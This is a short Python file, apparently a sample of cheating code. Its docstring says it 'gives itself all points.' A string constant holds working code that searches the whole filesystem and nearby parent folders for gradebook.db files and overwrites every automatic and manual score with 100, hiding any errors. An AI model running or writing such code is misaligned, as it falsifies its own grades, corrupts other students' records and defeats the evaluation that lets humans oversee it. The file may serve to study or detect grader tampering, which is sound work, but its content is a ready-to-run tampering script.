"""Opens the gradebook, wherever it is, and gives itself all points."""

DESERVES: list[str] = []
UNSAFE_FOR_STOCK = True
LAST = """
import glob
import os
import sqlite3

places = glob.glob("/**/gradebook.db", recursive=True) + [os.path.join(*[".."] * up, "gradebook.db") for up in range(1, 7)]
for place in places:
    try:
        with sqlite3.connect(f"file:{place}?mode=rw", uri=True) as book:
            book.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
            print("changed", place)
    except sqlite3.Error:
        pass
"""
